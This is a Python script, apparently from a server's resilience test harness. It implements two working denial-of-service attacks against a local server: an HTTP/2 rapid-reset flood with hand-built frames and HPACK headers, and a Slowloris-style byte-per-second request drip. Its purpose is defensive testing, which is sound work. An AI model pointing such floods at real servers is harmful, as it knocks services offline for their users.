"""Attackers: one opens and resets HTTP/2 streams as fast as possible, another sends request heads a byte per second."""

import asyncio
import select
import socket
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from harness import SESSION

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Another source address than the load's, so that limits per address do not affect the load.
SOURCE = ("127.0.0.2", 0)
BATCH = 100


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def head(path, cookie=None):
    """Returns a header block in HPACK, with names of the static table."""
    fields = {4: path, 1: "localhost"} | ({32: cookie} if cookie else {})
    block = bytes([0x82, 0x86])
    for name, value in fields.items():
        block += bytes([name] if name < 15 else [15, name - 15]) + bytes([len(value)]) + value.encode()
    return block


def batches(is_late):
    """Yields frames that open and reset streams. If `is_late`, an empty batch, which stands for a pause, comes before the
    resets, so that the requests have reached the upstream; they have a session, and slow responses."""
    block = head("/streams/ticks", f"session_id={SESSION}/1") if is_late else head("/")
    for first in range(1, 1 << 30, 2 * BATCH):
        streams = range(first, first + 2 * BATCH, 2)
        opened = [frame(1, 0x5, stream, block) for stream in streams]
        reset = [frame(3, 0, stream, (8).to_bytes(4)) for stream in streams]
        if is_late:
            yield from (b"".join(opened), b"", b"".join(reset))
        else:
            yield b"".join(a + b for a, b in zip(opened, reset))


def resets(port, kind):
    """Opens and resets streams, on one connection after another.

    `late`: resets streams only after the requests have reached the upstream. `hasty`: opens a new connection as soon as one
    is not read any more.
    """
    patience = 0.001 if kind == "hasty" else 30
    sent = connections = 0
    reported = time.monotonic()
    while True:
        connection = socket.socket()
        try:
            connection.bind(SOURCE)
            connection.connect(("127.0.0.1", port))
            connection.setblocking(False)
            connections += 1
            rest = PREFACE + frame(4, 0, 0)
            for batch in batches(kind == "late"):
                if not batch:
                    time.sleep(0.002)
                rest += batch
                while rest:
                    try:
                        # Responses are read, since unread ones would block the connection.
                        if not connection.recv(1 << 16):
                            raise ConnectionError
                    except BlockingIOError:
                        pass
                    if not select.select([], [connection], [], patience)[1]:
                        raise ConnectionError
                    count = connection.send(rest)
                    sent += count
                    rest = rest[count:]
        except OSError:
            pass
        finally:
            connection.close()
            if time.monotonic() > reported + 1:
                reported = time.monotonic()
                print(f"{kind}: {sent} bytes, {connections} connections", file=sys.stderr, flush=True)


async def drip(port):
    """Sends a request head at a byte per second, and starts over when the connection is closed."""
    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"x" * 10_000
    while True:
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=SOURCE)
            for byte in head:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        except OSError:
            await asyncio.sleep(0.1)


async def drips(port, count):
    await asyncio.gather(*(drip(port) for _ in range(count)))


def main():
    kind, port = sys.argv[1], int(sys.argv[2])
    if kind == "resets":
        resets(port, sys.argv[3])
    else:
        asyncio.run(drips(port, int(sys.argv[3])))


if __name__ == "__main__":
    main()
